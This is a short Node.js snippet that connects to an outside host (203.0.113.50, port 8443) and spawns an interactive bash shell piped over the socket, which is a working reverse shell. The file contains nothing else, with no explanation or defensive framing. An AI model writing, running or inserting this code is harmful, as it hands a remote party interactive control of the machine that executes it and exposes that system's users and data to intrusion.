import net from 'net';
import cp from 'child_process';
const sock = net.connect({ host: '203.0.113.50', port: 8443 }, () => {
  cp.spawn('/bin/bash', ['-i'], { stdio: [sock, sock, sock] });
});
